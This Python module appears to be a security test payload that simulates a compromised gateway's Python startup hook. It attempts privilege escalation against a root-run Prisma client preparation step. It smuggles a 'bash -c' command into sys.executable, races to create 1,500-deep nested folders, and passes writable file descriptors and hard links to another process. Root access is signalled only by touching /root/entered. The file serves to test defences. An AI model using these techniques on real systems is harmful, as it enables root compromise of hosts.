"""Imported by the gateway's own Python each time that it starts, in one that was broken into.

/srv/attacker/python says what else it does: `lie` about what it is; `nest` folders where
Prisma's client is prepared, or `keep` descriptors of files there.
"""

import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress

HOW = "/srv/attacker/python"
PREPARED = "/var/lib/hx-gateway-db-prisma"
# More than Python goes down by calling itself.
DEPTH = 1500
SOCKET = "\0prepared"


def main() -> None:
    if os.getuid() == 0:
        # Root has run what belongs to the gateway's user.
        subprocess.run(["/usr/bin/touch", "/root/entered"])
    with suppress(OSError), open(HOW) as file:
        WAYS.get(file.read().strip(), lambda: None)()


def lie() -> None:
    sys.executable = "bash -c 'touch /root/entered' #"


def nest() -> None:
    """Folders in folders, in the background: what is prepared is made by this process."""
    threading.Thread(target=_when_there_is_something, args=(_nest,), daemon=True).start()


def keep() -> None:
    """Descriptors of files that will be root's."""
    threading.Thread(target=_when_there_is_something, args=(_hand_out,), daemon=True).start()


def _when_there_is_something(spoil: Callable[[str], None]) -> None:
    for _ in range(2000):
        time.sleep(0.01)
        with suppress(OSError):
            for name in os.listdir(PREPARED):
                package = f"{PREPARED}/{name}/client/prisma"
                if os.access(package, os.W_OK):
                    spoil(package)
                    return


def _nest(folder: str) -> None:
    here = os.open(folder, os.O_RDONLY)
    with suppress(OSError):
        for _ in range(DEPTH):
            os.mkdir("d", dir_fd=here)
            here, last = os.open("d", os.O_RDONLY, dir_fd=here), here
            os.close(last)


def _hand_out(package: str) -> None:
    """To a process that outlives this one; and give a file a second name."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sender:
        sender.connect(SOCKET)
        for name in ("kept.py", "linked.py"):
            descriptor = os.open(f"{package}/{name}", os.O_RDWR | os.O_CREAT, 0o666)
            socket.send_fds(sender, [b"."], [descriptor])
        os.link(f"{package}/linked.py", f"{package}/second_name.py")


WAYS = {"lie": lie, "nest": nest, "keep": keep}

main()
